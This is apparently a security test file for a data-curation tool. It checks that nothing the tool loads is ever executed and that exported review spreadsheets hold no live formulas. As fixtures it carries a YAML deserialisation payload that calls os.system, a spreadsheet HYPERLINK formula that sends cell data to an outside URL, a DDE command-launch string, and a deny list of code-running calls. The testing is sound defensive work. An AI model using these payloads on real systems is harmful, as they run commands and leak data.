"""What docs/security.md promises: who may read, and that nothing which is read is ever run."""

from __future__ import annotations

import ast
import json
import shutil
import stat
from typing import TYPE_CHECKING, Any

import pytest
from openpyxl import load_workbook

from curator.errors import ModelError, RecipeError
from curator.models.encoders import load_encoder
from curator.rules import load_rules
from tests.conftest import ROOT, run_python

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

RUNS = {"eval", "exec", "compile", "system", "popen"}
UNSAFE = {"pickle", "cPickle", "dill", "cloudpickle", "marshal", "shelve", "joblib"}
SAFE_IN_C = "yaml.load(text, Loader=_LOADER)"
"""`safe_load`, by the parser in C where there is one."""
FLAGS = ("trust_remote_code", "allow_pickle", "shell")


def sources() -> Iterator[tuple[str, ast.AST]]:
    for path in sorted((ROOT / "curator").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            yield path.relative_to(ROOT).as_posix(), node


def test_nothing_that_is_read_can_be_code() -> None:
    """No pickle, no evaluation, no shell, no YAML but the safe kind, no model's own code."""
    found = []
    for file, node in sources():
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
            found += [(file, name) for name in names if name.partition(".")[0] in UNSAFE]
        if isinstance(node, ast.Call):
            name = getattr(node.func, "id", None) or getattr(node.func, "attr", "")
            owner = getattr(getattr(node.func, "value", None), "id", "")
            if name in RUNS and owner in ("", "os", "builtins"):
                found.append((file, name))
            if owner == "yaml" and "load" in name and name != "safe_load":
                found += [(file, f"yaml.{name}")] if ast.unparse(node) != SAFE_IN_C else []
            if owner == "torch" and name == "load":
                found.append((file, "torch.load"))
            found += [
                (file, f"{k.arg}={ast.unparse(k.value)}")
                for k in node.keywords
                if k.arg in FLAGS and getattr(k.value, "value", True)
            ]
    assert found == []


def test_a_folder_with_code_is_no_encoder(tmp_path: Path) -> None:
    folder = tmp_path / "model"
    folder.mkdir()
    mark = tmp_path / "it-ran"
    (folder / "hostile.py").write_text(
        f"open({str(mark)!r}, 'w')\nclass Module: pass\n", encoding="utf-8"
    )
    (folder / "modules.json").write_text(
        json.dumps([{"idx": 0, "name": "0", "path": "", "type": "hostile.Module"}]), "utf-8"
    )
    (folder / "config_sentence_transformers.json").write_text("{}", "utf-8")
    with pytest.raises(ModelError):
        load_encoder(str(folder))
    assert not mark.exists()


def test_rules_are_data(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    mark = tmp_path / "it-ran"
    (rules / "policy.yaml").write_text(
        f'rules: !!python/object/apply:os.system ["touch {mark}"]\n', encoding="utf-8"
    )
    with pytest.raises(RecipeError):
        load_rules(tmp_path)
    assert not mark.exists()


def test_onnxruntime_keeps_no_record_of_events(tmp_path: Path) -> None:
    """Its wheels for Linux do, unless they are told not to before the import."""
    at_home = {"HOME": str(tmp_path), "XDG_CACHE_HOME": str(tmp_path / "cache")}
    run_python("import curator, onnxruntime", tmp_path, **at_home)
    assert not list(tmp_path.rglob("*onnxruntime*"))


def test_the_workspace_is_the_owners_alone(demo: Path) -> None:
    store = demo / ".curator"
    assert stat.S_IMODE(store.stat().st_mode) == 0o700
    loose = [
        p.relative_to(store).as_posix()
        for p in store.rglob("*")
        if p.is_file() and p.stat().st_mode & 0o077
    ]
    assert [p for p in loose if p != "lock"] == []


def test_no_cell_of_a_reviewers_sheet_is_a_formula(
    tmp_path: Path, curator: Callable[..., Any]
) -> None:
    root = tmp_path / "p"
    root.mkdir()
    hostile = '=HYPERLINK("http://example.org/"&A1,"click")'
    lines = [
        {"messages": [{"role": "user", "content": hostile},
                      {"role": "assistant", "content": "@SUM(1+1)*cmd|' /C calc'!A0"}]}
        for _ in range(3)
    ]  # fmt: skip
    (root / "chat.jsonl").write_text("\n".join(map(json.dumps, lines)), encoding="utf-8")
    (root / "curator.yaml").write_text(
        "sources: [{path: chat.jsonl}]\nworkers: 1\nchecks: {pii: false, label_issues: false, outliers: false,"
        " semantic_duplicates: false, category_labels: false, contamination: false,"
        " contradictions: false}\n",
        encoding="utf-8",
    )
    shutil.copytree(ROOT / "rules", root / "rules", ignore=shutil.ignore_patterns("domains"))
    policy = root / "rules" / "policy.yaml"
    text = policy.read_text(encoding="utf-8")
    policy.write_text(text.replace("then: keep_one", "then: review"), encoding="utf-8")
    curator("run", root)
    curator("review", "sheet", "export", tmp_path / "sheet.xlsx", "-p", root)
    cells = [c for row in load_workbook(tmp_path / "sheet.xlsx").worksheets[0].iter_rows() for c in row]  # fmt: skip
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)
    assert "f" not in {c.data_type for c in cells}, "a formula"
